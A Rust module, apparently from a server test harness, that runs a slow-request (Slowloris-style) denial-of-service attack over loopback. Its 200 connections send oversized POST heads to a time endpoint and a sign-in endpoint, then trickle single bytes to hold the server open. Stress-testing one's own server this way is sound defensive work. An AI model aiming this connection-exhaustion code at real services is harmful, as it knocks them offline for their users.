//! Two hundred connections over HTTP/1.1, each with a large request that trickles.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

use super::Orders;
use crate::harness::loopback;

const SOCKETS: usize = 200;
/// Addresses that they come from.
const ADDRESSES: usize = 4;
/// What is sent at once: nearly all that a request without credentials may have.
const AT_ONCE_BYTES: usize = 15_000;

pub(super) async fn attack(orders: Orders) -> anyhow::Result<()> {
    let mut sockets = JoinSet::new();
    for number in 0..SOCKETS {
        let orders = orders.clone();
        sockets.spawn(async move {
            while !orders.is_over() {
                let ended = trickle(number, &orders).await;
                orders.answered(ended.is_ok_and(|is_taken| is_taken));
                // Whoever is refused comes again.
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        });
    }
    while sockets.join_next().await.is_some() {}
    Ok(())
}

/// Sends one request; whether it was answered with success.
async fn trickle(number: usize, orders: &Orders) -> std::io::Result<bool> {
    let mut stream = connect(orders, 1 + number % ADDRESSES).await?;
    // Half of them ask for the time and half sign in with a link that never comes.
    let path = ["/runtime/v1/time", "/api/v1/sign-in"][number / ADDRESSES % 2];
    let head = format!(
        "POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 16000\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&[b' '; AT_ONCE_BYTES]).await?;
    orders.sent(AT_ONCE_BYTES);
    let mut answer = [0; 12];
    loop {
        tokio::select! {
            read = stream.read_exact(&mut answer) => {
                read?;
                return Ok(&answer == b"HTTP/1.1 200");
            }
            () = tokio::time::sleep(Duration::from_millis(500)) => {
                if orders.is_over() {
                    return Ok(false);
                }
                stream.write_all(b" ").await?;
                orders.sent(1);
            }
        }
    }
}

async fn connect(orders: &Orders, address: usize) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((loopback(address), 0).into())?;
    socket.connect(orders.to).await
}
